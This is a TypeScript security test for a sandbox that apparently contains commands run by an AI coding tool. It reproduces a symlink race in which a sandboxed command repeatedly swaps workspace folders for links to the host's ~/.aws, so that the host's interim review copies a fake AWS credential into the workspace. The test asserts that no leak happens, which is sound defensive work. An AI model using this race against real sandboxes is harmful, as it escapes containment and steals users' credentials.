// Attack (round 2): the interim review of a background command walks the layer's `upper` folder by path. The
// final name is opened without following a link, but the folders on the way are not: while the review runs, the
// command flips a folder of its layer (`src`, a folder the workspace has) between a real folder and a symbolic
// link to a host folder. When the review saw `src` as a folder and then lists and opens `upper/src/…` after the
// flip, the host (with the user's rights, outside every mount of the sandbox) lists and reads the host folder the
// link names and copies its files into the workspace's `src` as ordinary files: a home-folder secret lands in
// the workspace, where the next command (or the model) reads it.
import assert from 'node:assert/strict';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { spawnSandboxed } from '../../src/terminal/node/sandboxSpawn';
import { defaultProtectedFiles } from '../../src/settings/common/valueSets';
import { makeFixture, never, runOutside, sandboxHere, type Fixture } from './harness';

const SECRET = 'aws_secret_access_key=host-only-4b9d21';
/** Folders the workspace has; the command flips each in its layer (several: one of them is read late enough). */
const FOLDERS = ['src', 'lib', 'app', 'docs', 'test', 'tools', 'web', 'api'];

async function leakedIn(root: string): Promise<string | undefined> {
  for (const folder of FOLDERS) {
    if ((await readFile(join(root, folder, 'credentials'), 'utf8').catch(() => '')).includes(SECRET)) return folder;
  }
  return undefined;
}

describe('attack: interim review walks through a folder of the layer swapped for a link', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  before(async () => {
    fixture = await makeFixture();
    await mkdir(join(fixture.home, '.aws'), { recursive: true });
    await writeFile(join(fixture.home, '.aws', 'credentials'), `${SECRET}\n`, { mode: 0o600 });
    for (const folder of FOLDERS) {
      await mkdir(join(fixture.root, folder));
      await writeFile(join(fixture.root, folder, 'main.c'), 'int main(void) { return 0; }\n');
    }
  });
  // A killed overlay leaves its work folder unreadable (mode 0): opened up so the fixture can go.
  after(async () => {
    await runOutside('chmod', ['-R', 'u+rwx', fixture.base]);
    await fixture.remove();
  });

  test("a home-folder secret never reaches the workspace through a background command's interim reviews", async () => {
    const target = join(fixture.home, '.aws');
    // Ordinary files beside and below widen the time between the review's lstat of a folder and its readdir of it;
    // each folder is a real folder for a moment (2 ms), a link to the host's ~/.aws the rest of the time (40 ms).
    const flip =
      `mkdir pad && for i in $(seq 1 60); do echo x > f$i; echo x > pad/f$i; done; rm -rf ${FOLDERS.join(' ')}; ` +
      `exec perl -e 'use Time::HiRes qw(usleep); my @d = qw(${FOLDERS.join(' ')}); ` +
      `while (1) { mkdir $_ for @d; usleep(2000); rmdir $_ for @d; symlink "${target}", $_ for @d; usleep(40000); unlink $_ for @d; }'`;
    const watch = (await fixture.guard.watch(never))!;
    const launch = await fixture.session.launch(
      { root: fixture.root, cwd: fixture.root, command: flip, protectedFiles: defaultProtectedFiles, network: false },
      never,
    );
    const child = spawnSandboxed(launch, fixture.root);
    let output = '';
    child.stdout?.on('data', (c: Buffer) => (output += c.toString()));
    child.stderr?.on('data', (c: Buffer) => (output += c.toString()));
    const started = Date.now();
    let leaked: string | undefined;
    let reviews = 0;
    while (Date.now() - started < 20_000 && !leaked) {
      await watch.review!(never).catch(() => undefined);
      reviews++;
      leaked = await leakedIn(fixture.root);
    }
    process.kill(-child.pid!, 'SIGKILL');
    await new Promise((resolve) => child.once('close', resolve));
    await watch.settle(never);
    leaked ??= await leakedIn(fixture.root);
    assert.ok(
      !leaked,
      `ESCAPED after ${reviews} interim review(s): the host copied ${target}/credentials into the workspace as ${leaked}/credentials ${output.slice(0, 300)}`,
    );
  });
});
